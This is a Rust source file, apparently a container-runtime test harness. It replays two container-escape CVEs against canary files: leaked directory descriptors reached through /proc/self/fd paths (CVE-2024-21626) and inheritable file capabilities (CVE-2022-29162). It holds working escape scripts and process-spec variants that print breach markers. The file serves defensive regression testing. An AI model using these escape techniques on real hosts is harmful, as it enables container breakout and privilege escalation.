//! What a process inherits without having been given it: directories of the host
//! by descriptor number (CVE-2024-21626), capabilities (CVE-2022-29162). There is
//! nothing to race with, so all variants are gone through.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::{Value, json};

use crate::host::{Host, set_file_capability};
use crate::round::{Attack, Outcome, exec_once, once};
use crate::support::Case;
use crate::targets::{bind, mounts};

/// CVE-2024-21626: cwd, or the program itself, by way of an open directory.
pub(crate) struct Descriptors {
    fresh: Case,
    /// Execs go there.
    running: Case,
    forms: Vec<String>,
    program: String,
}

const HIGHEST: usize = 64;

impl Descriptors {
    pub(crate) fn new(host: &mut Host) -> Self {
        let inside = host.canary.strip_prefix("/").unwrap().display().to_string();
        // From wherever it is, upwards, to where the canaries would be.
        let script = format!(
            "p=.; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do \
             cat $p/{inside}/secret 2>/dev/null; echo x 2>/dev/null >> $p/{inside}/0; p=$p/..; done; \
             cat secret 2>/dev/null; \
             for f in /proc/self/fd/*; do [ -d $f/. ] && [ -e $f/{inside}/secret -o -e $f/../{inside}/secret ] \
             && echo BREACH $f; done; echo confined"
        );
        let image = |case: &Case| {
            let image = case.dir.join("image");
            symlink("/proc/self/fd", image.join("fds")).unwrap();
            symlink("/proc/self", image.join("me")).unwrap();
        };
        let fresh = Case::new(&["sh", "-c", &script]);
        image(&fresh);
        let mut running = Case::new(&["sleep", "1000000"]);
        image(&running);
        running.start();
        running.reap_workers();
        running.set("/process/args", fresh.spec["process"]["args"].clone());
        fs::copy(
            fresh.dir.join("image/bin/busybox"),
            host.canary.with_file_name("busybox"),
        )
        .unwrap();
        let mut forms = Vec::new();
        for top in [
            "/proc/self/fd",
            "/proc/thread-self/fd",
            "/dev/fd",
            "/fds",
            "/me/fd",
            "/proc/1/fd",
        ] {
            for below in ["", "/", "/..", "/../../../..", "/."] {
                forms.push(format!("{top}/N{below}"));
            }
        }
        Self {
            fresh,
            running,
            forms,
            program: host.canary.with_file_name("busybox").display().to_string(),
        }
    }

    fn process(&self, n: usize) -> Value {
        let number = (n / 4 % (HIGHEST + 1)).to_string();
        let form = &self.forms[n / 4 / (HIGHEST + 1) % self.forms.len()];
        let path = form.replace('N', &number);
        let mut process = self.fresh.spec["process"].clone();
        if (n / 2).is_multiple_of(2) {
            process["cwd"] = json!(path);
        } else {
            // A program of the host's, named through the directory.
            let program = format!("{path}/../../../../../../../..{}", self.program);
            process["args"] = json!([program, "echo", "BREACH: ran a program of the host"]);
        }
        process
    }
}

impl Attack for Descriptors {
    fn attempt(&mut self, n: u32) -> Outcome {
        let n = n as usize;
        let process = self.process(n);
        if n % 2 == 1 {
            return exec_once(&mut self.running, process);
        }
        let plain = self.fresh.spec.clone();
        self.fresh.set("/process", process);
        let outcome = once(&mut self.fresh);
        self.fresh.spec = plain;
        outcome
    }

    /// The same script where the canaries can be reached.
    fn control(&mut self, host: &Host) -> Option<Outcome> {
        let plain = self.fresh.spec.clone();
        let inside = host.canary.to_str().unwrap();
        mounts(&mut self.fresh).push(bind(&host.canary, inside));
        let outcome = once(&mut self.fresh);
        self.fresh.spec = plain;
        assert_ne!(host.changes(), [""; 0]);
        Some(outcome)
    }

    fn must_see(&self) -> &'static [&'static str] {
        &["refused"]
    }
}

/// CVE-2022-29162: a program with inheritable file capabilities gives a user what
/// the process was not given, if the runtime fills the inheritable set.
pub(crate) struct Inheritable {
    fresh: Case,
    running: Case,
}

const CAPS: [&str; 6] = [
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_KILL",
    "CAP_NET_BIND_SERVICE",
    "CAP_SETUID",
    "CAP_SYS_PTRACE",
];

impl Inheritable {
    pub(crate) fn new(_host: &mut Host) -> Self {
        let script = "grep -q 'CapInh:.0000000000000000' /proc/self/status || echo BREACH inheritable; \
            [ $(id -u) = 0 ] || /opt/busybox grep -q 'CapEff:.0000000000000000' /proc/self/status \
            || echo BREACH gained; echo without";
        let fresh = Case::new(&["sh", "-c", script]);
        let mut running = Case::new(&["sleep", "1000000"]);
        for case in [&fresh, &running] {
            let image = case.dir.join("image");
            fs::create_dir(image.join("opt")).unwrap();
            fs::copy(image.join("bin/busybox"), image.join("opt/busybox")).unwrap();
            set_file_capability(
                &image.join("opt/busybox"),
                "cap_chown,cap_dac_override,cap_kill+ei",
            );
        }
        running.start();
        running.reap_workers();
        Self { fresh, running }
    }

    fn process(&self, n: usize) -> Value {
        let mut process = self.fresh.spec["process"].clone();
        let some: Vec<&str> = CAPS
            .iter()
            .enumerate()
            .filter(|(i, _)| (n / 8 + 1) >> i & 1 == 1)
            .map(|(_, cap)| *cap)
            .collect();
        process["capabilities"] = json!({"bounding": CAPS, "permitted": some, "effective": some});
        let user = if (n / 2).is_multiple_of(2) { 1000 } else { 0 };
        process["user"] = json!({"uid": user, "gid": user});
        process["noNewPrivileges"] = json!((n / 4).is_multiple_of(2));
        process
    }
}

impl Attack for Inheritable {
    fn attempt(&mut self, n: u32) -> Outcome {
        let n = n as usize;
        let process = self.process(n);
        if n % 2 == 1 {
            return exec_once(&mut self.running, process);
        }
        self.fresh.set("/process", process);
        once(&mut self.fresh)
    }

    /// The same, with the inheritable set filled by the spec.
    fn control(&mut self, _host: &Host) -> Option<Outcome> {
        let mut process = self.process(4);
        process["capabilities"]["inheritable"] = json!(CAPS);
        process["capabilities"]["permitted"] = json!(CAPS);
        let outcome = exec_once(&mut self.running, process);
        match &outcome {
            Outcome::Ran(out) => assert!(out.contains("BREACH gained"), "{out}"),
            Outcome::Refused(why) => panic!("{why}"),
        }
        Some(outcome)
    }

    fn must_see(&self) -> &'static [&'static str] {
        &["without"]
    }
}
